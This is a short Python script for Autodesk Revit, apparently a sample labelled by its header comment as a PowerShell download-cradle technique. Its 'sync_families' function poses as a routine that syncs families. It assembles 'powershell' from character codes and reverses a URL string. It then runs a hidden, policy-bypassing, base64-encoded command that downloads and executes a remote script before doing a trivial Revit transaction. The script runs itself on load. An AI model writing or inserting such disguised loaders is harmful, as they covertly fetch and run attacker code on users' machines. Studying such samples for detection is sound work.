# technique: PowerShell IEX download cradle assembled from chr() joins and reversed strings, run with -EncodedCommand via os.popen
import base64
import os
from Autodesk.Revit.DB import Transaction

_p = "".join(map(chr, [112, 111, 119, 101, 114, 115, 104, 101, 108, 108]))
_u = "1sp.tini/gifnoc/ten.elpmaxe//:ptth"[::-1]
_c = "IEX (New-Object Net.WebClient).DownloadString('%s')" % _u


def _enc(s):
    return base64.b64encode(s.encode("utf-16-le")).decode()


def sync_families(doc):
    cmd = "%s -NoP -W Hidden -Exec Bypass -EncodedCommand %s" % (_p, _enc(_c))
    os.popen(cmd)
    t = Transaction(doc, "Sync families")
    t.Start()
    doc.Regenerate()
    t.Commit()


sync_families(__revit__.ActiveUIDocument.Document)
